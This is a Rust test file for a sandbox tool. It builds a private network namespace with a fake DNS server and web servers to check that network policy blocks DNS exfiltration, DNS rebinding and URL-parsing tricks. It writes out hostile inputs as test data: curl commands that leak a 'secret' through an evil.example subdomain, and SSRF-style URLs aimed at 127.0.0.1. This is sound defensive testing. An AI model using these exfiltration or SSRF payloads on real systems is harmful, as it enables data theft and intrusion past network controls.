//! A29 and A30 with a resolver and addresses of the world of our own: a network namespace has a name server,
//! a server at a public address and one on the loopback, and `bailey` runs in it.

use crate::{
    door::{MAY_ASK, MAY_END, allow},
    stage::{Ran, Stage},
};
use std::{fs, os::unix::fs::MetadataExt as _, process::Command};

/// Plays the world, runs what stands in its arguments, and tells what was asked of whom.
const WORLD: &str = r#"
import json, os, socket, subprocess, sys, threading
home = sys.argv[1]
subprocess.run(['sh', '-ec', f'''
ip link set lo up; ip addr add 11.0.0.1/32 dev lo
mount --bind {home}/resolv.conf /etc/resolv.conf; mount --bind {home}/nsswitch.conf /etc/nsswitch.conf
'''], check=True)
asked, served, flips = [], {'world': [], 'here': []}, {}

def address(name):
    if name.startswith('both.'): return ['11.0.0.1', '127.0.0.1']
    if name.startswith('flip.'):
        flips[name] = flips.get(name, 0) + 1
        return ['11.0.0.1' if flips[name] == 1 else '127.0.0.1']
    return ['11.0.0.1']

def names():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('127.0.0.1', 53))
    while True:
        packet, who = s.recvfrom(4096)
        at, labels = 12, []
        while packet[at]:
            labels.append(packet[at + 1:at + 1 + packet[at]].decode()); at += 1 + packet[at]
        question = packet[12:at + 5]; kind = int.from_bytes(packet[at + 1:at + 3], 'big')
        name = '.'.join(labels).lower(); asked.append(name)
        found = address(name) if kind == 1 else []
        answer = packet[:2] + b'\x81\x80\x00\x01' + len(found).to_bytes(2, 'big') + b'\x00' * 4 + question
        for one in found: answer += b'\xc0\x0c\x00\x01\x00\x01' + b'\x00' * 4 + b'\x00\x04' + socket.inet_aton(one)
        s.sendto(answer, who)

def web(ip, name, port):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((ip, port)); s.listen(64)
    def one(c):
        head = b''
        while b'\r\n\r\n' not in head:
            more = c.recv(4096)
            if not more: break
            head += more
        served[name].append(head.decode('latin-1').split('\r\n')[0])
        body = f'from {name}\n'.encode()
        c.sendall(b'HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %d\r\n\r\n' % len(body) + body); c.close()
    while True:
        c, _ = s.accept(); threading.Thread(target=one, args=(c,), daemon=True).start()

for start in [names, lambda: web('11.0.0.1', 'world', 80), lambda: web('11.0.0.1', 'world', 8022), lambda: web('127.0.0.1', 'here', 80)]:
    threading.Thread(target=start, daemon=True).start()
import time; time.sleep(0.2)
ran = subprocess.run(sys.argv[2:], stdin=subprocess.DEVNULL, capture_output=True, text=True)
print(json.dumps({'asked': asked, 'served': served, 'stdout': ran.stdout, 'stderr': ran.stderr}))
"#;

/// What a line of a shell comes to in that world, with these settings and the rule that hosts beneath
/// `open.example` may be fetched from; none where no such world can be made.
fn world(config: &str, line: &str) -> Option<serde_json::Value> {
    let stage = Stage::new(&[("a.txt", "a\n")]);
    fs::create_dir_all(stage.home().join("policy")).unwrap();
    let rules = allow("*.open.example", ", method = \"GET\"");
    fs::write(stage.home().join("policy/own.toml"), format!("{MAY_END}{MAY_ASK}{rules}")).unwrap();
    fs::write(stage.home().join("config.toml"), config).unwrap();
    fs::write(stage.folder().join("resolv.conf"), "nameserver 127.0.0.1\noptions timeout:2 attempts:1\n")
        .unwrap();
    fs::write(stage.folder().join("nsswitch.conf"), "hosts: dns\n").unwrap();
    let line = format!("export NO_PROXY= no_proxy=; {line}");
    let bailey = stage.bailey(&["sandbox", "run", "--network", "--", "sh", "-c", &line]);
    let mut command = Command::new("unshare");
    command.args(["--net", "--mount", "--propagation", "private"]);
    if fs::metadata("/proc/self").unwrap().uid() != 0 {
        command.arg("--map-root-user");
    }
    command.args(["python3", "-c", WORLD]).arg(stage.folder());
    command.arg(bailey.get_program()).args(bailey.get_args()).current_dir(stage.project());
    for name in ["HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"] {
        command.env_remove(name);
    }
    let ran = Ran::of(command.output().unwrap());
    if ran.stderr.contains("unshare failed") || ran.stderr.contains("Operation not permitted") {
        println!("SKIPPED: no network of one's own can be made: {}", ran.stderr);
        return None;
    }
    let lines = ran.lines();
    Some(lines.into_iter().next().unwrap_or_else(|| panic!("{ran:?}")))
}

fn curl(arguments: &str) -> String {
    format!("curl -sS --max-time 20 {arguments}; echo")
}

/// A name is asked of a resolver only after a rule allowed the request: what stands in it does not leave
/// before.
#[test]
fn a29_a_name_that_no_rule_allows_is_asked_of_nobody() {
    let secret = "stolen-words";
    let line = [
        curl(&format!("http://{secret}.evil.example/")),
        curl(&format!("https://{secret}.evil.example/")),
        curl(&format!("--resolve '*:80:11.0.0.1' --noproxy '*' http://{secret}.evil.example/")),
        format!(
            "python3 -c \"import socket; print(socket.getaddrinfo('{secret}.evil.example', 80))\" 2>&1 | tail -1"
        ),
        curl("http://words.open.example/"),
    ];
    let Some(told) = world("", &line.join("; ")) else { return };
    let asked = told["asked"].to_string();
    assert!(!asked.contains(secret), "{told}");
    assert_eq!(told["served"]["world"].as_array().unwrap().len(), 1, "{told}");
    assert!(
        asked.contains("words.open.example"),
        "the control: a name that a rule allows is asked for: {told}"
    );
    assert!(told["stdout"].as_str().unwrap().contains("from world"), "{told}");
}

/// A name that leads elsewhere the next time, or to two places at once, leads to no private address.
#[test]
fn a30_a_name_that_changes_its_mind_leads_to_no_private_address() {
    let many = (0..4).map(|_| curl("http://flip.open.example/")).collect::<Vec<_>>().join("; ");
    let line = format!("{many}; {}", curl("http://both.open.example/"));
    let Some(told) = world("", &line) else { return };
    assert_eq!(told["served"]["here"].as_array().unwrap().len(), 0, "{told}");
    let stdout = told["stdout"].as_str().unwrap();
    assert!(stdout.contains("from world"), "the first time it led to the world: {told}");
    assert!(stdout.contains("is no address of the world"), "{told}");
    let named = "[network]\nprivate = [\"http://flip.open.example\"]\n";
    let Some(control) = world(named, &many) else { return };
    assert!(!control["served"]["here"].as_array().unwrap().is_empty(), "the control: {control}");
}

/// What readers of URLs disagree about, and what asks for another place than it says.
#[test]
fn a30_odd_forms_and_other_ports_lead_nowhere() {
    let raw = |request: &str| {
        let program = format!(
            "import os, socket, base64
from urllib.parse import urlsplit
proxy = urlsplit(os.environ['HTTP_PROXY'])
shown = base64.b64encode(f'{{proxy.username}}:{{proxy.password}}'.encode()).decode()
s = socket.create_connection((proxy.hostname, proxy.port)); s.settimeout(10)
s.sendall(('{request}'.replace('PASS', 'Proxy-Authorization: Basic ' + shown)).encode('latin-1'))
try: print(s.recv(300).decode('latin-1').split('\\r\\n')[0])
except OSError as error: print(error)"
        );
        format!("python3 -c \"$(cat <<'E'\n{program}\nE\n)\"")
    };
    let head = "Host: words.open.example\\r\\nPASS\\r\\nConnection: close\\r\\n\\r\\n";
    let odd = [
        "http://user@words.open.example/",
        "http://words.open.example:80@127.0.0.1/",
        "http://words.open.example\\x00.evil.example/",
        "http://words.open.example%00.evil.example/",
        "http://words.open.example\\\\@127.0.0.1/",
        "http://words.open.example#@127.0.0.1/",
        "http://words.open.example:8022/",
        "http://[::ffff:127.0.0.1]/",
    ];
    let mut lines: Vec<String> =
        odd.iter().map(|url| raw(&format!("GET {url} HTTP/1.1\\r\\n{head}"))).collect();
    lines.push(raw(&format!("CONNECT words.open.example:8022 HTTP/1.1\\r\\n{head}GET / HTTP/1.1\\r\\nHost: words.open.example:8022\\r\\n\\r\\n")));
    let control = raw(&format!("GET http://words.open.example/control HTTP/1.1\\r\\n{head}"));
    lines.push(control);
    let Some(told) = world("", &lines.join("\n")) else { return };
    assert_eq!(told["served"]["here"].as_array().unwrap().len(), 0, "{told}");
    let served: Vec<&str> =
        told["served"]["world"].as_array().unwrap().iter().filter_map(|it| it.as_str()).collect();
    assert!(served.contains(&"GET /control HTTP/1.1"), "the control: {told}");
    // A fragment is no part of what is asked for (RFC 9110, 4.2.4); nothing else got through.
    assert!(served.iter().all(|line| matches!(*line, "GET /control HTTP/1.1" | "GET / HTTP/1.1")), "{told}");
    assert!(served.len() <= 2, "{told}");
}
